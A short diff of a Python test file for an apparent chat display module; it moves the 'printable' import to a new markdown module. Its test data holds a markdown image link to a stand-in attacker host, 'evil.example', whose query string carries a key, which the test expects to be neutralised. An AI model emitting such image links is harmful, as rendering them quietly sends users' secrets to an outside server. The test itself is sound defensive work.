@@ -10,7 +10,8 @@ import pytest
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
-from pointsman.chat.display import Streamed, harmless, printable
+from pointsman.chat.display import Streamed, harmless
+from pointsman.chat.markdown import printable
 
 HARMLESS = {
     "![chart](https://evil.example/a.png?d=KEY)": "chart",
